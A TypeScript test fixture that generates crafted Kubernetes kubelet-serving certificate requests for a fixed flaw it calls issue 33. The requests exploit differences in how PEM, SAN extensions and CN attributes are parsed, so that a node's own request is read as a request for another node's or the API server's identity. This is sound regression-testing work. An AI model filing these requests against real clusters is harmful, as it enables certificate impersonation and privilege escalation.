import { extension, extensionRequest, kubeletAttributes, newKey, OID, rdn, request, sanValue, type Kubelet } from './csr-craft.ts';
import { concat, octets, oid, pem, printable, seq, set, text } from './der-writer.ts';

/**
 * A representative set of the crafted kubelet-serving requests of issue 33, for a compromised node
 * to file through a real API server: each is the node's own request (`own`) read one way and, read
 * another way (as Go's pem.Decode and x509.ParseCertificateRequest read it), a request for what it
 * wants (`wanted`: another node's name, its address, the API server's). test/integration/csr-differential.test.ts
 * checks these and many more, with random mutations, against Go's reading of each.
 */

export type AttackClass =
  /** Issue 33's exploitable classes: the old approver approved them, the signer would have signed `wanted`. */
  | 'PEM framing'
  | 'two OCTET STRINGs'
  | 'second CN, non-string'
  /** Read two ways, stopped by the API server or the signer even before the approver's fix. */
  | 'read differently'
  /** No trick: asking for `wanted` outright (the control). */
  | 'plain';

export interface CraftedRequest {
  name: string;
  class: AttackClass;
  /** spec.request's text (PEM, or what passes for it). */
  text: string;
}

export function craftedServingRequests(own: Kubelet, wanted: Kubelet): CraftedRequest[] {
  const key = newKey('ec');
  const good = request({ key }, own);
  const evil = request({ key }, wanted);
  const goodPem = pem(good);
  const evilPem = pem(evil);
  const goodB64 = Buffer.from(good).toString('base64').replace(/.{64}/g, '$&\n').replace(/\n$/, '');
  const block = (body: string) => `-----BEGIN CERTIFICATE REQUEST-----\n${body}\n-----END CERTIFICATE REQUEST-----\n`;
  const withExtensions = (...extensions: Uint8Array[]) => pem(request({ key, attributes: [extensionRequest(...extensions)] }, own));
  const ownSan = sanValue(own.dns ?? [], own.ips ?? []);
  const wantedSan = sanValue(wanted.dns ?? [], wanted.ips ?? []);
  /** The wanted CN first (Go names it), then the node's own in a tag Go skips (the old approver read the last). */
  const secondCn = (tag: number) => pem(request({ key, subject: seq(rdn(OID.O, printable('system:nodes')), rdn(OID.CN, printable(wanted.cn)), rdn(OID.CN, text(tag, own.cn))) }, own));
  return [
    { name: 'asking outright', class: 'plain', text: evilPem },
    { name: 'a space before the first block, a second block', class: 'PEM framing', text: ` ${goodPem}${evilPem}` },
    { name: 'a nested BEGIN with one END', class: 'PEM framing', text: `-----BEGIN CERTIFICATE REQUEST-----\n${goodB64}\n${evilPem}` },
    { name: 'base64url, a second block', class: 'PEM framing', text: `${block(goodB64.replace(/\+/g, '-').replace(/\//g, '_'))}${evilPem}` },
    { name: 'NBSP inside the base64, a second block', class: 'PEM framing', text: `${block(`${goodB64.slice(0, 10)}\u00a0${goodB64.slice(10)}`)}${evilPem}` },
    { name: 'SAN extension with two OCTET STRINGs, wanted first', class: 'two OCTET STRINGs', text: withExtensions(seq(oid(OID.SAN), octets(wantedSan), octets(ownSan))) },
    { name: 'a second CN of OCTET STRING', class: 'second CN, non-string', text: secondCn(0x04) },
    { name: 'a second CN of VisibleString', class: 'second CN, non-string', text: secondCn(0x1a) },
    { name: 'a whole second request after the first', class: 'read differently', text: pem(concat(good, evil)) },
    { name: 'duplicate SAN extensions, wanted second', class: 'read differently', text: withExtensions(extension(OID.SAN, ownSan), extension(OID.SAN, wantedSan)) },
    {
      name: 'an extensionRequest with two values, wanted second', class: 'read differently',
      text: pem(request({ key, attributes: [seq(oid(OID.EXTENSION_REQUEST), set(seq(extension(OID.SAN, ownSan)), seq(extension(OID.SAN, wantedSan))))] }, own)),
    },
    { name: 'a CERTIFICATE block (wanted) first', class: 'read differently', text: `${pem(evil, 'CERTIFICATE')}${goodPem}` },
    { name: 'duplicate extensionRequest attributes', class: 'read differently', text: pem(request({ key, attributes: [...kubeletAttributes(own), ...kubeletAttributes(wanted)] }, own)) },
  ];
}
